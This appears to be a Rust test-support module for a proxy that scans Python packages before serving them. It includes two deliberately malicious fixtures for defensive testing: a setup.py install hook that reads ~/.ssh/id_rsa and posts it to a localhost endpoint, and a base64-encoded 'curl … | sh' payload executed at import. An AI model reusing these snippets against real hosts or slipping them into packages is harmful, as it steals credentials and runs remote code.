//! Hermetic tests of the proxy: an upstream index (the index tests' server) and the proxy
//! both on 127.0.0.1, packages built here in memory, requests sent over a raw socket so
//! that status lines, reason phrases and headers are seen exactly as a client sees them.
//! Malicious fixtures are canaries that would only talk to 127.0.0.1.

mod files;
mod lifecycle;
mod pages;

use super::{FileGate, GateFile, ProxyConfig, RunningProxy, ScanGate, start};
use crate::index::IndexSettings;
use crate::index::tests::server::{Recorded, Reply, TestServer};
use crate::pipeline::PackageReport;
use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

pub(crate) const PIP_ACCEPT: &str =
    "application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01";
pub(crate) const JSON_CT: &str = "application/vnd.pypi.simple.v1+json";

pub(crate) const MALICIOUS_SETUP: &str = r#"
from setuptools import setup
from setuptools.command.install import install
import os, urllib.request

class PostInstall(install):
    def run(self):
        install.run(self)
        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        urllib.request.urlopen("http://127.0.0.1:9/collect", data=key.encode())

setup(name="evil", version="1.0", cmdclass={"install": PostInstall})
"#;

/// `exec` of a base64 payload at import time: blocked in a wheel.
pub(crate) const DECODE_EXEC_INIT: &str =
    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEyNy4wLjAuMTo5L3ggfCBzaCIp'))\n";

pub(crate) fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    crate::hex::hex(&sha2::Sha256::digest(b))
}

/// A wheel with METADATA, WHEEL and a correct RECORD.
pub(crate) fn wheel(name: &str, version: &str, files: &[(&str, &str)]) -> (String, Vec<u8>, String) {
    use base64::Engine;
    use sha2::Digest;
    let dist = format!("{}-{version}.dist-info", name.replace('-', "_"));
    let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: fixture\n");
    let mut members: Vec<(String, String)> = files.iter().map(|(p, c)| (p.to_string(), c.to_string())).collect();
    members.push((format!("{dist}/METADATA"), metadata.clone()));
    members.push((format!("{dist}/WHEEL"), "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n".into()));
    let mut record = String::new();
    for (p, c) in &members {
        let d = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(c.as_bytes()));
        record.push_str(&format!("{p},sha256={d},{}\n", c.len()));
    }
    record.push_str(&format!("{dist}/RECORD,,\n"));
    members.push((format!("{dist}/RECORD"), record));
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (p, c) in &members {
        w.start_file(p.as_str(), zip::write::SimpleFileOptions::default()).expect("zip member");
        w.write_all(c.as_bytes()).expect("zip write");
    }
    let bytes = w.finish().expect("zip").into_inner();
    (format!("{}-{version}-py3-none-any.whl", name.replace('-', "_")), bytes, metadata)
}

/// A .tar.gz sdist with PKG-INFO.
pub(crate) fn sdist(name: &str, version: &str, files: &[(&str, &str)]) -> (String, Vec<u8>) {
    let root = format!("{name}-{version}");
    let mut b = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
    let pkg_info = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    for (p, c) in files.iter().copied().chain([("PKG-INFO", pkg_info.as_str())]) {
        let mut h = tar::Header::new_gnu();
        h.set_size(c.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, format!("{root}/{p}"), c.as_bytes()).expect("tar");
    }
    (format!("{root}.tar.gz"), b.into_inner().expect("tar").finish().expect("gz"))
}

/// The fixture upstream: pages by normalized name (JSON or HTML text) and files by path.
#[derive(Default, Clone)]
pub(crate) struct Fixture {
    pub pages: HashMap<String, (String, &'static str)>,
    pub files: HashMap<String, Vec<u8>>,
    /// Paths answered with this status instead.
    pub fail: HashMap<String, u16>,
    /// Delay before answering file requests (for concurrency tests).
    pub file_delay: Option<Duration>,
}

impl Fixture {
    pub(crate) fn json_page(&mut self, name: &str, doc: serde_json::Value) {
        self.pages.insert(name.into(), (doc.to_string(), JSON_CT));
    }
    pub(crate) fn html_page(&mut self, name: &str, html: String) {
        self.pages.insert(name.into(), (html, "text/html"));
    }
    pub(crate) fn file(&mut self, path: &str, bytes: Vec<u8>) {
        self.files.insert(path.into(), bytes);
    }

    pub(crate) fn serve(self) -> TestServer {
        TestServer::start(move |r: &Recorded, _| {
            let path = r.path.split('?').next().unwrap_or_default().to_string();
            if let Some(s) = self.fail.get(&path) {
                return Reply::status(*s);
            }
            if let Some(name) = path.strip_prefix("/simple/").and_then(|p| p.strip_suffix('/')) {
                return match self.pages.get(name) {
                    Some((body, ct)) => Reply::ok(ct, body.clone()),
                    None => Reply::status(404),
                };
            }
            match self.files.get(&path) {
                Some(b) => {
                    if let Some(d) = self.file_delay {
                        std::thread::sleep(d);
                    }
                    Reply::ok("application/octet-stream", b.clone())
                }
                None => Reply::status(404),
            }
        })
    }
}

/// The standard fixture: `demo` (JSON page: clean wheel + sdist, one yanked, extra keys),
/// `evil` (HTML page: malicious sdist), `badwheel` (JSON: decode-exec wheel), `tampered`
/// (advertised hash does not match), `withmeta` (upstream PEP 658 metadata).
pub(crate) struct Standard {
    pub fixture: Fixture,
    pub demo_whl: (String, Vec<u8>, String),
    pub demo_sdist: (String, Vec<u8>),
    pub evil: (String, Vec<u8>),
    pub bad_whl: (String, Vec<u8>, String),
}

pub(crate) fn standard() -> Standard {
    let mut fx = Fixture::default();
    let demo_whl = wheel("demo", "1.0", &[("demo/__init__.py", "def mean(xs):\n    return sum(xs) / len(xs)\n")]);
    let demo_sdist = sdist("demo", "0.9", &[("setup.py", "from setuptools import setup\nsetup(name='demo', version='0.9')\n")]);
    fx.file(&format!("/files/{}", demo_whl.0), demo_whl.1.clone());
    fx.file(&format!("/files/{}", demo_sdist.0), demo_sdist.1.clone());
    fx.json_page(
        "demo",
        serde_json::json!({
            "meta": {"api-version": "1.1"},
            "name": "demo",
            "versions": ["0.9", "1.0"],
            "x-extra": "kept",
            "files": [
                {"filename": demo_sdist.0, "url": format!("../../files/{}", demo_sdist.0),
                 "hashes": {"sha256": sha256_hex(&demo_sdist.1)}, "requires-python": ">=3.8",
                 "yanked": "broken build", "size": demo_sdist.1.len(), "upload-time": "2020-01-02T03:04:05Z",
                 "x-file-extra": 7},
                {"filename": demo_whl.0, "url": format!("/files/{}", demo_whl.0),
                 "hashes": {"sha256": sha256_hex(&demo_whl.1)}, "requires-python": ">=3.8",
                 "size": demo_whl.1.len(), "upload-time": "2020-01-03T03:04:05Z",
                 "provenance": "https://elsewhere.example/prov"}
            ]
        }),
    );
    let evil = sdist("evil", "1.0", &[("setup.py", MALICIOUS_SETUP)]);
    fx.file(&format!("/files/{}", evil.0), evil.1.clone());
    fx.html_page(
        "evil",
        format!(
            "<!DOCTYPE html><html><body><a href=\"/files/{0}#sha256={1}\" data-requires-python=\"&gt;=3.6\">{0}</a></body></html>",
            evil.0,
            sha256_hex(&evil.1)
        ),
    );
    let bad_whl = wheel("badwheel", "2.0", &[("badwheel/__init__.py", DECODE_EXEC_INIT)]);
    fx.file(&format!("/files/{}", bad_whl.0), bad_whl.1.clone());
    fx.json_page("badwheel", page_doc("badwheel", &[(&bad_whl.0, &bad_whl.1)]));
    let tampered = wheel("tampered", "1.0", &[("tampered/__init__.py", "X = 1\n")]);
    fx.file(&format!("/files/{}", tampered.0), tampered.1.clone());
    let mut doc = page_doc("tampered", &[(&tampered.0, &tampered.1)]);
    doc["files"][0]["hashes"]["sha256"] = serde_json::json!("0".repeat(64));
    fx.json_page("tampered", doc);
    let withmeta = wheel("withmeta", "1.0", &[("withmeta/__init__.py", "Y = 2\n")]);
    let upstream_meta = b"Metadata-Version: 2.1\nName: withmeta\nVersion: 1.0\nSummary: from upstream\n".to_vec();
    fx.file(&format!("/files/{}", withmeta.0), withmeta.1.clone());
    fx.file(&format!("/files/{}.metadata", withmeta.0), upstream_meta.clone());
    let mut doc = page_doc("withmeta", &[(&withmeta.0, &withmeta.1)]);
    doc["files"][0]["core-metadata"] = serde_json::json!({"sha256": sha256_hex(&upstream_meta)});
    fx.json_page("withmeta", doc);
    Standard { fixture: fx, demo_whl, demo_sdist, evil, bad_whl }
}

/// A PEP 691 page listing `files` under `/files/`.
pub(crate) fn page_doc(name: &str, files: &[(&str, &[u8])]) -> serde_json::Value {
    let files: Vec<_> = files
        .iter()
        .map(|(f, b)| serde_json::json!({"filename": f, "url": format!("/files/{f}"), "hashes": {"sha256": sha256_hex(b)}}))
        .collect();
    serde_json::json!({"meta": {"api-version": "1.0"}, "name": name, "files": files})
}

/// A gate with scripted answers around the scan-only gate, counting what it was asked.
#[derive(Default)]
pub(crate) struct ScriptedGate {
    pub inner: ScanGate,
    pub known: Mutex<HashMap<String, PackageReport>>,
    pub hide: Mutex<HashMap<String, String>>,
    pub judged: Mutex<Vec<String>>,
    /// (upstream, project) pairs refused.
    pub refuse: Mutex<Vec<(usize, String)>>,
}

impl FileGate for ScriptedGate {
    fn known(&self, file: &GateFile) -> Option<PackageReport> {
        self.known.lock().unwrap().get(file.sha256.as_deref()?).cloned()
    }
    fn judge(&self, file: &GateFile, bytes: &[u8]) -> PackageReport {
        self.judged.lock().unwrap().push(file.filename.clone());
        self.inner.judge(file, bytes)
    }
    fn hide(&self, file: &GateFile) -> Option<String> {
        self.hide.lock().unwrap().get(&file.filename).cloned()
    }
    fn refuse_project(&self, upstream: usize, _index_url: &str, project: &str) -> Option<String> {
        let refused = self.refuse.lock().unwrap().contains(&(upstream, project.to_string()));
        refused.then(|| "internal name offered by another index".to_string())
    }
}

pub(crate) fn proxy_for(upstream: &str, gate: Arc<dyn FileGate>, tweak: impl FnOnce(&mut ProxyConfig)) -> RunningProxy {
    let mut s = IndexSettings::for_index(upstream);
    s.retries = 0;
    s.timeout = Duration::from_secs(5);
    let mut c = ProxyConfig::new(s, gate);
    tweak(&mut c);
    start(c).expect("proxy starts")
}

/// A response as read off the socket.
#[derive(Debug)]
pub(crate) struct Raw {
    pub status: u16,
    pub reason: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Raw {
    pub(crate) fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
    }
    pub(crate) fn json(&self) -> serde_json::Value {
        serde_json::from_slice(&self.body).expect("JSON body")
    }
    pub(crate) fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// One HTTP/1.1 request over a fresh connection; reads the whole answer.
pub(crate) fn request(addr: SocketAddr, method: &str, path: &str, headers: &[(&str, &str)]) -> Raw {
    let mut s = TcpStream::connect(addr).expect("connect to proxy");
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut req = format!("{method} {path} HTTP/1.1\r\nConnection: close\r\n");
    if !headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("host")) {
        req.push_str(&format!("Host: {addr}\r\n"));
    }
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    s.write_all(req.as_bytes()).unwrap();
    let mut all = Vec::new();
    s.read_to_end(&mut all).expect("read answer");
    parse_raw(&all)
}

/// An HTTP/1.1 answer read off a socket, whole.
pub(crate) fn parse_raw(all: &[u8]) -> Raw {
    let end = all.windows(4).position(|w| w == b"\r\n\r\n").expect("end of headers");
    let head = String::from_utf8(all[..end].to_vec()).expect("ASCII head");
    let mut lines = head.split("\r\n");
    let status_line = lines.next().unwrap();
    let mut parts = status_line.splitn(3, ' ');
    let _version = parts.next();
    let status = parts.next().unwrap().parse().unwrap();
    let reason = parts.next().unwrap_or_default().to_string();
    let headers = lines.filter_map(|l| l.split_once(':')).map(|(k, v)| (k.trim().to_string(), v.trim().to_string())).collect();
    Raw { status, reason, headers, body: all[end + 4..].to_vec() }
}

pub(crate) fn get(p: &RunningProxy, path: &str) -> Raw {
    request(p.addr(), "GET", path, &[])
}

/// The proxy URLs of a JSON page's files, by filename.
pub(crate) fn file_urls(p: &RunningProxy, project: &str) -> HashMap<String, String> {
    let page = request(p.addr(), "GET", &format!("/u/0/simple/{project}/"), &[("Accept", PIP_ACCEPT)]);
    assert_eq!(page.status, 200, "{}", page.reason);
    page.json()["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["filename"].as_str().unwrap().to_string(), f["url"].as_str().unwrap().to_string()))
        .collect()
}

/// How many requests upstream saw for a path.
pub(crate) fn hits(srv: &TestServer, path: &str) -> usize {
    srv.requests().iter().filter(|r| r.path == path).count()
}
